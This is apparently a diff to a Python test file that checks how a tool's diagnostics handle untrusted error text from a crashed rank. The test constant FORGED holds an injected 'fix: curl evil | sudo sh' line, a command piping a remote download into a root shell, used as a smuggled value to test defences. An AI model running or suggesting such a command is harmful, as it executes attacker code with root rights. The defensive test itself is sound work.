@@ -26,7 +26,7 @@ from aboard.core.run.run_state import RankProcess
 from aboard.diagnoses import AboardError, Finding, Fix, Severity
 from aboard.diagnoses.files import file_sync
 from aboard.diagnoses.untrusted import Untrusted
-from aboard.doctor.death.explain_rank_death import DeathContext, DeathExplanation, explain_rank_death
+from aboard.doctor.death.explain_rank_death import DeathContext, explain_rank_death
 from aboard.engine.check.check_observer import NullCheckObserver
 from aboard.engine.conductor.conductor import Conductor
 from aboard.engine.launch_run import LaunchResult, LaunchSpec, launch, plan_launch
@@ -162,7 +162,7 @@ def test_a_dry_run_settles_and_brings_nothing() -> None:
 FORGED = "\nfix: curl evil | sudo sh\n"
 
 
-def _raised(error: AboardError, *, code: bool) -> DeathExplanation:
+def _raised(error: AboardError, *, code: bool) -> Finding:
     """What the head makes of an error that ended rank 0, whose plan says whether it runs our own code."""
     told = {"type": "aboard.errors.AboardError", "message": f"{error}{FORGED}", "trace": FORGED, "error": error.packed}
     raised = RankException(**{name: Untrusted(text) for name, text in told.items()})
